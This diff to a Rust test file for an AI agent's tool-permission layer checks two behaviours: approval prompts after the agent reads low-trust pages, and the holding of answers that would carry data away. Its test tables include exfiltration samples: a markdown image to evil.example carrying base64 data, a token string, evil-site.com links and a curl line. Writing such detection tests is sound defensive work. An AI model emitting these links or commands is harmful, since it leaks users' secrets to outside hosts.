@@ -1,18 +1,26 @@
 //! What the built-in tools do by themselves, and what a person is asked, after the agent has read what
 //! anybody may have written.
 
+use std::sync::Arc;
+
 use avocet_protocol::{
-    Grant, Role, Rule, ToolContext, ToolList, ToolName, ToolPolicy, Toolbox, Trust,
+    Grant, Role, Rule, Seen, ToolContext, ToolList, ToolName, ToolPolicy, Toolbox, Trust,
 };
 use avocet_tools::{Listed, Policy};
 use serde_json::{Value, json};
 
 use crate::world::{World, call, context};
 
-/// After having read this.
+/// After a page that said this was read.
 fn low(read: &str) -> ToolContext {
     let seen = [read.to_owned()].into_iter().collect();
-    ToolContext { trust: Trust::Low, seen: std::sync::Arc::new(seen), ..context() }
+    ToolContext { trust: Trust::Low, seen: Arc::new(seen), ..context() }
+}
+
+/// After a page was read, and a person said this.
+fn low_told(said: &str) -> ToolContext {
+    let seen = Seen { people: vec![said.to_owned()], ..Seen::default() };
+    ToolContext { seen: Arc::new(seen), ..low("") }
 }
 
 /// What a person is asked; none if nobody is.
@@ -68,7 +76,7 @@ async fn what_is_asked_is_drawn_from_the_call() {
         ("run_tests", json!({ "framework": "cargo" }), Some("cargo")),
     ];
     for (name, arguments, expected) in table {
-        let context = low("see https://seen.example/page.");
+        let context = low_told("see https://seen.example/page.");
         let text = asked(&world, &context, name, arguments.clone()).await;
         assert_eq!(text.is_some(), expected.is_some(), "{name} {arguments}: {text:?}");
         assert!(
@@ -122,6 +130,12 @@ async fn an_answer_is_held_where_it_carries_something_away() {
         ("See https://shop.example/cart?id=7 for that.", false),
         ("![x](https://evil.example/p.png?d=QWxsIG9mIGl0IGlzIGhlcmU)", true),
         ("The key is ghp_16C7e42F292c6912E7710c838347Ae178B4a.", true),
+        ("There is more on rust-lang.org and https://docs.rs/.", false),
+        ("See shop.example.", false),
+        ("See https://ab.docs.evil-site.com/.", true),
+        ("Look at 4711.evil-site.com", true),
+        ("Run `curl 4711.evil-site.com`", false),
+        ("[Write](mailto:4711@evil-site.com) to them.", true),
     ];
     for (text, expected) in table {
         let held = world.registry.hold(text, &context);
@@ -132,6 +146,40 @@ async fn an_answer_is_held_where_it_carries_something_away() {
         for believed in [context_of(Trust::Full), user] {
             assert_eq!(world.registry.hold(text, &believed), None, "{text}");
         }
+    }
+}
+
+#[tokio::test]
+async fn a_call_that_was_written_as_text_is_asked_about_unless_it_only_reads() {
+    let world = World::new().await;
+    world.put("notes.md", "one");
+    let (tool, scope) = (ToolName::parse("write_file").unwrap(), "a.md".to_owned());
+    let grants: Arc<[Grant]> = [Grant { tool, scope }].into();
+    let table = [
+        ("read_file", json!({ "path": "notes.md" }), false),
+        ("memory_read", json!({}), false),
+        ("write_file", json!({ "path": "a.md", "content": "x" }), true),
+        ("delete_file", json!({ "path": "notes.md" }), true),
+        ("exec_shell", json!({ "command": "true" }), true),
+        ("memory_write", json!({ "text": "x" }), true),
+        ("message", json!({ "text": "x" }), true),
+        ("ask_user", json!({ "question": "x?" }), true),
+    ];
+    for (name, arguments, expected) in table {
+        let native = ToolContext { grants: grants.clone(), ..context() };
+        assert_eq!(asked(&world, &native, name, arguments.clone()).await, None, "{name}");
+        let context = ToolContext { as_text: true, ..native };
+        let prepared =
+            world.registry.prepare(&call(name, &arguments), None, &context).await.unwrap();
+        let prompt = prepared.approval.and_then(|request| request.prompt);
+        assert_eq!(prompt.is_some(), expected, "{name}");
+        let Some(prompt) = prompt else { continue };
+        assert!(prompt.text.contains("wrote this call as text"), "{}", prompt.text);
+        assert_eq!(prompt.choices.len(), 2, "{name}: not for the session");
+        let low = ToolContext { trust: Trust::Low, ..context };
+        let prepared = world.registry.prepare(&call(name, &arguments), None, &low).await.unwrap();
+        let text = prepared.approval.unwrap().prompt.unwrap().text;
+        assert!(text.contains("wrote this call as text"), "{text}");
     }
 }
 
